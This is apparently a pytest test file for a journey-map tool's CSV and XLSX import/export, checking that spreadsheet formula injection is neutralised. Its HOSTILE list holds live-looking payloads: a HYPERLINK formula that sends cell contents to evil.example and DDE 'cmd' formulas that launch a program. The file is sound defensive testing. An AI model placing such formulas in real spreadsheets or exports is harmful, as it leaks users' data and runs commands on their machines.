"""Formula injection: cells a spreadsheet would run are inert in the export and exact after import."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

from cjm.sheets.cells import neutralise, restore
from tests.conftest import SAMPLES, run_cjm
from tests.sheets.helpers import data_of, write_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Ver")',
    "=cmd|' /C calc'!A0",
    "+34 600 123 456",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''@two quotes",
    "- a list-looking value",
    "'plain apostrophe",
]


def test_neutralising_is_undone_exactly_and_only_for_guarded_cells() -> None:
    for value in [*HOSTILE, "-1", "-1.5", "", "=", "'", "'-1", "text"]:
        assert restore(neutralise(value)) == value
        cell = neutralise(value)
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), value
        assert not cell.startswith("-") or value in ("-1", "-1.5"), value


def test_hostile_text_exports_inert_and_imports_back_unchanged(tmp_path: Path) -> None:
    map_path = tmp_path / "journey.yaml"
    shutil.copy(SAMPLES / "tienda-online.yaml", map_path)
    header = ["stage", "id", "thoughts"]
    touchpoints = [(stage, ident) for stage, ident in _touchpoint_ids(map_path)][: len(HOSTILE)]
    rows = [header] + [
        [stage, ident, value] for (stage, ident), value in zip(touchpoints, HOSTILE, strict=True)
    ]
    source = tmp_path / "in.csv"
    source.write_bytes(_guarded_csv(rows))
    result = run_cjm("import", map_path, source)
    assert result.returncode == 0, result.stderr
    thoughts = {
        tp["id"]: tp.get("thoughts")
        for stage in data_of(map_path.read_text())["stages"]
        for tp in stage["touchpoints"]
    }
    assert [thoughts[ident] for _, ident in touchpoints] == [value.strip() for value in HOSTILE]

    exported = tmp_path / "out.csv"
    assert run_cjm("export", map_path, "--table", "touchpoints", "-o", exported).returncode == 0
    cells = [cell for row in csv.reader(io.StringIO(exported.read_text(encoding="utf-8"))) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [cell for cell in cells if cell.startswith("-") and cell not in ("-1", "-2")]
    assert '\'=HYPERLINK("http://evil.example/?d="&A1,"Ver")' in cells
    assert "'+34 600 123 456" in cells and "''=already quoted" in cells and "'plain apostrophe" in cells
    before = map_path.read_bytes()
    again = run_cjm("import", map_path, exported)
    assert "no changes" in again.stdout and map_path.read_bytes() == before

    book = tmp_path / "out.xlsx"
    assert run_cjm("export", map_path, "--table", "touchpoints", "-o", book).returncode == 0
    from openpyxl import load_workbook

    sheet = load_workbook(book)["touchpoints"]
    values = {cell.value: cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    hyperlink = values['=HYPERLINK("http://evil.example/?d="&A1,"Ver")']
    assert hyperlink.data_type == "s" and hyperlink.quotePrefix  # text, never a formula
    assert "no changes" in run_cjm("import", map_path, book).stdout and map_path.read_bytes() == before


def test_a_formula_typed_into_a_plain_csv_is_imported_as_text(tmp_path: Path) -> None:
    map_path = tmp_path / "journey.yaml"
    shutil.copy(SAMPLES / "tienda-online.yaml", map_path)
    table = write_csv(tmp_path / "k.csv", [["stage", "id", "current"], ["decision", "conversion", "=1+1"]])
    assert run_cjm("import", map_path, table).returncode == 0
    assert "        current: =1+1\n" in map_path.read_text(encoding="utf-8")
    exported = run_cjm("export", map_path, "--table", "kpis").stdout
    assert '"decision","conversion","Tasa de conversión","2,5 %","\'=1+1"' in exported


def _guarded_csv(rows: list[list[str]]) -> bytes:
    stream = io.StringIO()
    csv.writer(stream, quoting=csv.QUOTE_ALL).writerows([[neutralise(cell) for cell in row] for row in rows])
    return stream.getvalue().encode("utf-8")


def _touchpoint_ids(map_path: Path) -> list[tuple[str, str]]:
    data = data_of(map_path.read_text(encoding="utf-8"))
    return [(stage["id"], tp["id"]) for stage in data["stages"] for tp in stage["touchpoints"] if "id" in tp]
